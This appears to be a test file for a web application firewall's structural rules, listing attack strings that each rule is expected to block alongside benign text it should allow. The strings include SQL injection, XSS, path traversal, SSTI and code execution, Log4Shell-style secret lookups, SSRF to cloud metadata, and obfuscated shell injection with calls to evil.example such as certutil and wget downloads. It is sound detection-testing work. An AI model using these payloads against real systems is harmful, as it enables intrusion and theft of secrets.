// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is how these attacks are written
import { matchedIds, send, sendRequest, sites } from './test-support/send.ts';

/** What rules make of the structure of a value: by rule, attacks that no list of strings has, and what looks like them. */
describe('rules by structure', () => {
  it.each([
    [1002, '4 except select pin from cards'],
    [1002, "x') intersect all select null,name from parts--"],
    [1002, '-4 minus select 1 from dual'],
    [1008, "7' or json_extract('{\"k\":5}','$.k')=5-- -"],
    [1008, "9 or json_array_length('[4]')<8"],
    [1008, '\' or settings @> \'{"role":"x"}\' --'],
    [1008, '-3 union values row(7,8)-- -'],
    [1008, '-3 union table members limit 2'],
    [1009, "x'; drop table parts--"],
    [1009, '4;\nselect case when 1=1 then 2 end'],
    [1009, "x';\nupdate parts set price=0 -- "],
    [1010, '1 or not 7 between 7 and 7'],
    [1010, '2) and not not (5)-- x'],
    [1010, '3 or 7 is 7'],
    [1010, '4 || not 5>4'],
    [1010, "5' and not 6 in (7,8)#"],
    [1006, "=\"' or'"],
    [1004, "x' or not true -- a"],
    [1004, "x'rlike binary 7"],
    [1004, "a'&7+2='a"],
    [1004, "7'-@v or'1"],
    [2001, '<style type="text/javascript">f()</style>'],
    [2001, '<i style="x:expr/*a*/ession(f())">'],
    [2001, '<script>MsgBox 7'],
    [2002, 'mhtml:http://evil.example/x!y'],
    [2003, '<b datasrc=#a datafld=b dataformatas=html></b>'],
    [2003, '<import namespace="t" implementation="#default#time2">'],
    [2003, '<ev:listener event="load" handler="#y"/>'],
    [3002, 'c:/site/logs/error.log'],
    [2005, 'import("//evil.example/m.js")'],
    [2005, 'alert.call(top,7)'],
    [2005, '[7].find(confirm)'],
    [2005, 'onerror=prompt;throw 7'],
    [2005, 'f=alert,f(7)'],
    [2005, 'location=name'],
    [2005, 'Object.assign(self,{onerror:eval})'],
    [3001, '..2f..2fsecret2fkey'],
    [3005, '/etc/nsswitch.conf'],
    [3005, '/boot/grub/grub.conf'],
    [3005, 'd:\\System32\\Inetsrv\\metabase.xml'],
    [3005, '/.sh_history'],
    [3006, '/portal/web.config'],
    [4003, 'cat$IFS/srv/x'],
    [4003, ';${PATH:0:1}usr'],
    [4004, 'curl evil.example'],
    [4004, 'nslookup evil.example'],
    [4004, 'certutil -urlcache -f http://evil.example/x x.exe'],
    [4007, '10.0.0.7|wget evil.example'],
    [4007, 'x\nid'],
    [4007, '7;echo hello'],
    [4007, "|| system('id')"],
    [4009, "c'a't /srv/x"],
    [4009, 'w\\ho\\ami'],
    [4009, 'n^slookup evil.example'],
    [4010, 'who$@ami'],
    [4010, 'ca$()t'],
    [4011, "$'\\x6cs' -l /"],
    [4011, 'x;a=l;b=s;$a$b -l'],
    [4011, 'x|/???/ls'],
    [4011, "/'usr'/bin/env"],
    [4011, 'report.pdf; sle``ep 9'],
    [4011, "pear, plum| 'slee'p 9"],
    [4012, 'l${x}s -l /'],
    [4012, 'pear, plum;"i"d'],
    [4013, '|| timeout 9 sleep 8'],
    [4013, 'exec ls -l /srv'],
    [4013, 'pear, plum; whoami'],
    [4013, 'pear, plum; ls -l /srv'],
    [4013, "pear, plum|perl -e 'print 7'"],
    [4013, 'a;env;'],
    [4013, '10.0.0.7;env'],
    [7005, '<% out.println("7"); %>'],
    [7005, 'print(md5(77))'],
    [7005, "call_user_func('system','ls')"],
    [7005, '<?php echo 7;unlink(__FILE__);'],
    [8001, '{{= 6*7 }}'],
    [8004, "__import__('os').popen('ls').read()"],
    [8004, '"ls".execute().text'],
    [8004, 'new ProcessBuilder("ls").start()'],
    [8004, '{{groovy}}println(7){{/groovy}}'],
    [8005, '{{[].class.base.subclasses()}}'],
    [8005, '{$smarty.version}'],
    [8005, '{{request.url}}'],
    [8005, '#set($x = 7)'],
    [8006, '{a{b{c{d{e{f{g{h{i{j{k}}}}}}}}}}}'],
    [6004, '${java:version}'],
    [6004, 'x${env:AWS_SECRET_KEY}'],
    [10003, '<xsl:value-of select="document(\'/srv/x\')"/>'],
    [10003, "php:function('strrev','x')"],
    [11003, 'ldap://evil.example/x'],
    [11003, '\\\\evil.example\\share'],
    [11003, 'http://127.0.0.1:6379/'],
    [11005, 'http://127.0.0.1/'],
    [11005, 'http://localhost:8080/manager/html'],
    [15002, 'x\nTo: eve@evil.example'],
    [13001, 'jane)(&)'],
    [11003, 'https://shop.example@evil.example/'],
    [12004, "true, $where: '7 == 7'"],
    [12004, "', $where: '7 == 7"],
    [12004, "' || 'b'=='b"],
    [13001, 'x*)((|userpassword=*)'],
    [14004, 'gASVKwAAAAAAAACMBXBvc2l4lIwGc3lzdGVt'],
    [14004, 'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 1'],
    [14004, '?__proto__[admin]=1'],
    [15003, 'x\r\nRCPT TO: <eve@evil.example>'],
    [15003, '7\r\nA001 LOGOUT'],
    [18001, '/\\evil.example'],
    [18001, '////evil.example/'],
    [18001, '/\t/evil.example'],
    [18003, '/go?next=//evil.example'],
  ])('%i blocks %j', (id, value) => {
    const audit = send(sites.medium, value);
    expect(matchedIds(audit)).toContain(id);
    expect(audit.interruption).toMatchObject({ action: 'deny', status: 403 });
  });

  const LONG_WORD = 'k'.repeat(300);
  it.each([
    [1006, `7 and ${LONG_WORD}=${LONG_WORD}`],
    [4003, `${LONG_WORD}\`id\``],
    [11001, `http://${LONG_WORD}@169.254.169.254/`],
  ])('%i is not put off by a long word', (id, value) => {
    expect(matchedIds(send(sites.medium, value))).toContain(id);
  });

  it.each([
    [4008, '/tools?cmd=id'],
    [4008, '/tools?run_command=cat%20notes'],
    [7006, '/?filter[0]=phpinfo'],
    [11004, 'http://169.254.169.254/latest'],
    [18002, '/login?next=/%5Cevil.example'],
    [18002, '/login?next=//shop.example%40evil.example'],
    [18002, '/login?return_url=https:evil.example'],
    [15001, '/%E5%98%8D%E5%98%8ASet-Cookie:x=1'],
  ])('%i looks at names and addresses: %s', (id, target) => {
    expect(matchedIds(sendRequest(sites.medium, { target }))).toContain(id);
  });

  it.each([
    [4004, { target: '/', headers: ['User-Agent', 'ping -c 1 evil.example'] }],
    [2003, { target: '/', headers: ['User-Agent', "'-alert(7)-'"] }],
    [1006, { target: `/?${encodeURIComponent("' or true--")}=1` }],
    [12004, { target: '/', headers: ['Referer', "true, $where: '7 == 7'"] }],
    [6004, { target: '/', headers: ['X-Anything', '${sys:user.home}'] }],
  ])('%i looks at headers and names: %j', (id, request) => {
    expect(matchedIds(sendRequest(sites.medium, request))).toContain(id);
  });

  it.each([
    ['/files?cmd=ls&target=l1_Lw'],
    ['/files?command=open'],
    ['/docs?q=phpinfo'],
    ['/login?next=/account&ldap_url=ldap://directory.example'],
    ['/login?next=https://app.example/return'],
    ['/login?next=//app.example/return'],
    ['/login?redirect_uri=http://127.0.0.1/callback'],
    ['/apps?site=http://localhost:3000/'],
    ['/rules?range=0.0.0.0/0'],
  ])('let addresses through: %s', (target) => {
    expect(matchedIds(sendRequest(sites.medium, { target }))).toEqual([]);
  });

  it.each([
    // titles, generics, tags in sentences
    'JavaScript: The Good Parts',
    '`Promise<Object>`, `List<Object>`',
    'Map<String, Object> rows = new HashMap<>();',
    'I removed the <script> tag',
    'I removed the <script> tag and now it loads.',
    // shells beside documents, sums
    'npm ci && npm test, then post {"ok": true} to the hook',
    'cd app && make {"scripts":{"test":"jest"}}',
    '$((1500-28))',
    'The rest is $((1500-28)) a head',
    'Fields are separated by “$IFS” there',
    // SQL talked about, copied and dumped
    'sql注入的“and 1=1”是什么？',
    '它说 and 1=1 是什么意思',
    "Hi Tom,\n\nthe dump:\n\nCREATE TABLE t (\n  id int\n);\nINSERT INTO t VALUES (1,'x');\nDROP TABLE IF EXISTS old;\n\nCheers",
    '"LIKE" STAMP',
    '"select" a room; "like" it',
    'John & Sally or $100 & $200',
    'if (a && b) { return c; }',
    'function(n){n.key===e&&t(n.value)}',
    '(a or b) and (c or d)',
    'CREDIT UNION TABLE TENNIS, values and rows',
    '"*"',
    'AND 1=1 这是什么意思?',
    'The union select committee met on Monday',
    'Bob; DROP the mic',
    "Don't select twice; drop the old table view. Fixes #12",
    // scripts talked about
    'a=b, c(d); f(x) = [1,2].map(g)',
    'The location = Berlin; throw an error; import (x) from y',
    'We store it in localStorage and fetch it later.',
    // paths, files, addresses
    'C:\\fakepath\\photo.jpg',
    '/usr/local/jetty/lib/http.jar',
    'file:// links are blocked',
    '//TODO: later',
    '\\\\server\\share is our drive',
    'jane@example.com, joe@example.com',
    // words of shells, directories and mail servers
    'name|id|price',
    'Tea; echo chambers and printf styles',
    "c'est l'ami",
    'pa$sword62a$5zo',
    'We met there; nice find by Tom',
    'Cat lovers; nice cat pictures',
    'CORP\\jane 12',
    'Prices: $a$b',
    'dev; staging; env',
    'First; second; id and name',
    'x;"He said ""hello"" 5 times";7',
    'Text\n\n```sh\nlen=${#name}\nwhoami\n```\n',
    'Wait; sleep well | dream on',
    "l'été d''ici -- ok",
    'From: a@b.example\nTo: c@d.example\nDATA follows',
    'A1 SELECT pen',
    // templates and documents
    '{{ user.name }}, {{#if x}}y{{/if}} and {$price}',
    '{"price":{"$gte":10}}',
    '$where is an operator of MongoDB',
    '<?php /** Title: x */ ?><p>Hello</p>',
    'gASV is how a pickle begins',
  ])('let through: %j', (text) => {
    for (const site of [sites.low, sites.medium]) {
      const audit = send(site, text);
      expect(matchedIds(audit)).toEqual([]);
      expect(audit.interruption).toBeNull();
    }
  });
});
